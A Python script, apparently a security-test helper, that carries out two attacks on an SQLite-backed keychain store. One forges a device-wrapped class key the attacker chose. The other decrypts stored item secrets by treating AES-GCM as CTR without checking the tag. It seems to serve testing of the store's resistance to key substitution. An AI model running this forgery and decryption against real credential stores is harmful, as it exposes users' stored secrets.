#!/usr/bin/env python3
"""The attacks of someone who holds the device key and can write the store, done with sqlite3
and libcrypto (through ctypes) only:

  forge STORE DEVICE_KEY CLASS   adds a device-wrapped keybag row for CLASS whose key the
                                 attacker chose; prints that key in hex
  open STORE KEY_HEX ID          decrypts item ID's secret with that class key (GCM's counter
                                 mode alone, without checking the tag); prints it, or exits 1

usage: keybag_attack.py forge|open ...
"""
import ctypes
import ctypes.util
import os
import sqlite3
import sys

crypto = ctypes.CDLL(ctypes.util.find_library("crypto") or "libcrypto.so.3")
crypto.EVP_CIPHER_CTX_new.restype = ctypes.c_void_p
crypto.EVP_aes_256_gcm.restype = ctypes.c_void_p
crypto.EVP_aes_256_ctr.restype = ctypes.c_void_p
for f in ("EVP_EncryptInit_ex", "EVP_EncryptUpdate", "EVP_EncryptFinal_ex", "EVP_CIPHER_CTX_ctrl"):
    getattr(crypto, f).argtypes = None
crypto.EVP_CIPHER_CTX_free.argtypes = [ctypes.c_void_p]


def gcm_seal(key, plaintext, aad):
    nonce = os.urandom(12)
    ctx = ctypes.c_void_p(crypto.EVP_CIPHER_CTX_new())
    n = ctypes.c_int(0)
    out = ctypes.create_string_buffer(len(plaintext) + 16)
    tag = ctypes.create_string_buffer(16)
    assert crypto.EVP_EncryptInit_ex(ctx, ctypes.c_void_p(crypto.EVP_aes_256_gcm()), None, key, nonce) == 1
    assert crypto.EVP_EncryptUpdate(ctx, None, ctypes.byref(n), aad, len(aad)) == 1
    assert crypto.EVP_EncryptUpdate(ctx, out, ctypes.byref(n), plaintext, len(plaintext)) == 1
    assert crypto.EVP_EncryptFinal_ex(ctx, out, ctypes.byref(n)) == 1
    assert crypto.EVP_CIPHER_CTX_ctrl(ctx, 0x10, 16, tag) == 1  # EVP_CTRL_GCM_GET_TAG
    crypto.EVP_CIPHER_CTX_free(ctx)
    return nonce + out.raw[:len(plaintext)] + tag.raw


def gcm_open_untagged(key, sealed):
    """GCM's plaintext is CTR from counter 2 with a 96-bit nonce; the tag is not checked."""
    nonce, body = sealed[:12], sealed[12:-16]
    ctx = ctypes.c_void_p(crypto.EVP_CIPHER_CTX_new())
    n = ctypes.c_int(0)
    out = ctypes.create_string_buffer(len(body) + 16)
    assert crypto.EVP_EncryptInit_ex(ctx, ctypes.c_void_p(crypto.EVP_aes_256_ctr()), None, key,
                                     nonce + b"\x00\x00\x00\x02") == 1
    assert crypto.EVP_EncryptUpdate(ctx, out, ctypes.byref(n), body, len(body)) == 1
    crypto.EVP_CIPHER_CTX_free(ctx)
    return out.raw[:len(body)]


def main():
    args = sys.argv[1:]
    if len(args) == 4 and args[0] == "forge":
        store, device_key_path, cls = args[1:]
        device_key = open(device_key_path, "rb").read()
        chosen = os.urandom(32)
        con = sqlite3.connect(store)
        cols = [r[1] for r in con.execute("PRAGMA table_info(wrapped_keys)")]
        name = "class." + cls
        if "generation" in cols:
            meta = dict(con.execute("SELECT name, value FROM meta"))
            generation = int(bytes(meta["key_generation"]))
            if generation > 0:
                aad = ("kcfs-wrap-v2|%s|%s|d|%d" % (bytes(meta["store_id"]).hex(), name, generation)).encode()
            else:
                aad = ("kcfs-wrap|%s|d" % name).encode()
            con.execute("INSERT OR REPLACE INTO wrapped_keys (name, wrapping, generation, blob) VALUES (?, 'd', ?, ?)",
                        (name, generation, gcm_seal(device_key, chosen, aad)))
        else:
            aad = ("kcfs-wrap|%s|d" % name).encode()
            con.execute("INSERT OR REPLACE INTO wrapped_keys (name, wrapping, blob) VALUES (?, 'd', ?)",
                        (name, gcm_seal(device_key, chosen, aad)))
        con.commit()
        con.close()
        print(chosen.hex())
        return 0
    if len(args) == 4 and args[0] == "open":
        store, key_hex, item_id = args[1:]
        con = sqlite3.connect(store)
        row = con.execute("SELECT wrapped_key, secret FROM items WHERE id = ?", (int(item_id),)).fetchone()
        con.close()
        if row is None:
            return 1
        item_key = gcm_open_untagged(bytes.fromhex(key_hex), bytes(row[0]))
        sys.stdout.write(gcm_open_untagged(item_key, bytes(row[1])).decode("utf-8", "replace"))
        return 0
    print(__doc__.strip().splitlines()[-1], file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main())
